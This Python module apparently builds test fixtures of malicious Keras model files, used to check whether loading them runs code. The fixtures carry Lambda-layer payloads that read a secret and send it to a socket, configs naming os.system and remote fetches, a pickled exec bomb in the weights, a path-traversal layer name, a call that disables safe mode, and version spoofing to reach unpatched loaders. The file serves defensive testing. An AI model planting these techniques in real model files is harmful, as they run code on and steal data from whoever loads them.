"""Keras files that bring Python, name Python, or name files."""

import json
import os

from common import (
    code_running,
    coded,
    edit_h5_config,
    edit_members,
    keras_file,
    lambda_h5,
    lambda_model,
    saved_model,
    source_of,
    tensorflow,
    with_payload,
)


def _writes(facts):
    with open(facts["marker"], "w") as file:
        file.write("written")


def _sends_a_secret(facts):
    import socket

    with (
        open(facts["secret"], "rb") as file,
        socket.create_connection(("127.0.0.1", facts["port"]), 5) as sender,
    ):
        sender.sendall(file.read())


def _reads(facts):
    import sys

    with open(facts["secret"]) as file:
        sys.stderr.write(file.read())


def _reads_and_fails(facts):
    with open(facts["secret"]) as file:
        raise ValueError(file.read())


def lambda_in_h5(path, facts):
    return lambda_h5(path, _writes, facts)


def lambda_sends_a_secret(path, facts):
    return lambda_h5(path, _sends_a_secret, facts)


def lambda_reads(path, facts):
    return lambda_h5(path, _reads, facts)


def lambda_error_is_a_secret(path, facts):
    """What it read comes back as an error."""
    return lambda_h5(path, _reads_and_fails, facts)


def lambda_of_tf_keras(path, facts):
    import tf_keras

    return lambda_h5(path, _writes, facts, tf_keras)


def lambda_in_keras_file(path, facts):
    """Refused in safe mode, which is how it is loaded."""
    path += ".keras"
    lambda_model(tensorflow().keras).save(path)
    edit_members(path, config=lambda config: with_payload(config, coded(_writes, facts)))
    return path


def lambda_in_json(path, facts):
    """An architecture beside its weights."""
    model = lambda_model(tensorflow().keras)
    os.makedirs(path)
    config = with_payload(json.loads(model.to_json()), coded(_writes, facts))
    with open(os.path.join(path, "model.json"), "w") as file:
        json.dump(config, file)
    model.save_weights(os.path.join(path, "model.weights.h5"))
    return path


def lambda_in_saved_model(path, facts):
    """In the metadata that Keras 2 keeps beside the graph."""
    from keras.protobuf import saved_metadata_pb2

    lambda_model(tensorflow().keras).save(path, save_format="tf")
    file = os.path.join(path, "keras_metadata.pb")
    metadata = saved_metadata_pb2.SavedMetadata()
    with open(file, "rb") as old:
        metadata.ParseFromString(old.read())
    code = coded(_writes, facts)
    for node in metadata.nodes:
        node.metadata = json.dumps(with_payload(json.loads(node.metadata), code))
    with open(file, "wb") as new:
        new.write(metadata.SerializeToString())
    return path


def old_keras_lambda_in_h5(path, facts):
    """Keras 3 before 3.11.3 takes HDF5 without safe mode; the file asks for such a Keras."""
    import h5py

    path = lambda_h5(path, _writes, facts)
    with h5py.File(path, "r+") as file:
        file.attrs["keras_version"] = "3.3.3"
    return path


def _calling(module, function, *arguments, **named):
    """The configuration of a model one of whose layers is a call of any function."""

    def change(config):
        call = {
            "module": module,
            "class_name": "function",
            "config": function,
            "registered_name": function,
            "name": "called",
            "inbound_nodes": [{"args": list(arguments), "kwargs": named}],
        }
        config["config"]["layers"].append(call)
        return config

    return change


def _functional(path):
    keras = tensorflow().keras
    path += ".keras"
    x = keras.layers.Input((3,), name="x")
    keras.Model(x, keras.layers.Dense(2)(x)).save(path)
    return path


def _by_keras(version):
    def change(metadata):
        return dict(metadata, keras_version=version)

    return change


def names_a_program(path, facts):
    """A configuration that names `os.system`, of a file that asks for an unpatched Keras."""
    path = _functional(path)
    command = "echo written > '%s'" % facts["marker"]
    edit_members(path, config=_calling("os", "system", command), metadata=_by_keras("3.3.3"))
    return path


def names_a_program_to_the_newest(path, facts):
    path = _functional(path)
    command = "echo written > '%s'" % facts["marker"]
    edit_members(path, config=_calling("os", "system", command))
    return path


def fetches_a_file(path, facts):
    """A function of Keras itself, which fetches what an address names and writes it anywhere."""
    path = _functional(path)
    folder = os.path.dirname(facts["marker"])
    call = _calling(
        "keras.utils",
        "get_file",
        "marker",
        "http://%s/model" % facts["address"],
        cache_dir=folder,
        cache_subdir="",
    )
    edit_members(path, config=call, metadata=_by_keras("3.3.3"))
    return path


def names_a_module_in_h5(path, facts):
    """A class of another module, in HDF5: importing it runs it."""
    keras = tensorflow().keras
    path += ".h5"
    keras.Sequential([keras.layers.Input((3,)), keras.layers.Dense(2)]).save(path)

    def change(config):
        layer = config["config"]["layers"][-1]
        layer.update(module="antigravity", class_name="fly", registered_name="fly")
        return config

    edit_h5_config(path, change)
    return path


def _lookup(path):
    keras = tensorflow().keras
    layer = keras.layers.StringLookup(vocabulary=["a", "b"])
    return keras.Sequential([keras.layers.Input((1,), dtype="string", name="x"), layer]), path


def _reading_vocabulary(config, secret):
    for layer in config["config"]["layers"]:
        if layer["class_name"] == "StringLookup":
            layer["config"]["vocabulary"] = secret
    return config


def vocabulary_in_keras_file(path, facts):
    model, path = _lookup(path + ".keras")
    model.save(path)
    edit_members(path, config=lambda config: _reading_vocabulary(config, facts["secret"]))
    return path


def vocabulary_in_h5(path, facts):
    model, path = _lookup(path + ".h5")
    model.save(path)
    edit_h5_config(path, lambda config: _reading_vocabulary(config, facts["secret"]))
    return path


def vocabulary_by_old_keras(path, facts):
    path = vocabulary_in_keras_file(path, facts)
    edit_members(path, metadata=_by_keras("3.3.3"))
    return path


def saved_model_in_keras_file(path, facts):
    """A layer that loads another SavedModel, from anywhere, which then acts."""
    tf = tensorflow()
    there = os.path.join(os.path.dirname(facts["secret"]), "theirs")
    saved_model(there, load=lambda: tf.io.write_file(facts["marker"], "written"))
    quiet = os.path.join(os.path.dirname(path), "quiet")
    saved_model(quiet)
    keras = tf.keras
    x = keras.layers.Input((), name="x", dtype="float32")
    layer = keras.layers.TFSMLayer(quiet, call_endpoint="serving_default")
    path += ".keras"
    keras.Model(x, layer(x)).save(path)

    def change(config):
        for layer in config["config"]["layers"]:
            if layer["class_name"] == "TFSMLayer":
                layer["config"]["filepath"] = there
        return config

    edit_members(path, config=change, metadata=_by_keras("3.3.3"))
    return path


def climbing_layer(path, facts):
    """A layer whose name leads out of the place of its weights."""
    keras = tensorflow().keras
    path = keras_file(path, keras.layers.Dense(2, name="dense"))

    def change(config):
        config["config"]["layers"][-1]["config"]["name"] = "../../../marker"
        return config

    edit_members(path, config=change)
    return path


class _Bomb:
    def __init__(self, code):
        self.code = code

    def __reduce__(self):
        return exec, (self.code,)


def pickled_weights(path, facts):
    """Weights as an array of objects, which numpy unpickles."""
    import io
    import zipfile

    import numpy

    keras = tensorflow().keras
    path = keras_file(path, keras.layers.Dense(2))
    content = io.BytesIO()
    numpy.savez(content, x=numpy.array([_Bomb(source_of(_writes, facts))], dtype=object))
    with zipfile.ZipFile(path) as old, zipfile.ZipFile(path + ".new", "w") as new:
        for name in old.namelist():
            if not name.startswith("model.weights"):
                new.writestr(name, old.read(name))
        new.writestr("model.weights.npz", content.getvalue())
    os.replace(path + ".new", path)
    return path


def turns_safe_mode_off(path, facts):
    """Names the function of Keras that allows everything, before a Lambda."""
    keras = tensorflow().keras
    x = keras.layers.Input((1,), name="x")
    path += ".keras"
    keras.Model(x, keras.layers.Lambda(lambda x: x, output_shape=(1,))(x)).save(path)

    def change(config):
        config = with_payload(config, code_running(source_of(_writes, facts)))
        call = {
            "module": "keras.config",
            "class_name": "function",
            "config": "enable_unsafe_deserialization",
            "registered_name": "enable_unsafe_deserialization",
            "name": "called",
            "inbound_nodes": [{"args": [], "kwargs": {}}],
        }
        config["config"]["layers"].insert(0, call)
        return config

    edit_members(path, config=change, metadata=_by_keras("3.3.3"))
    return path
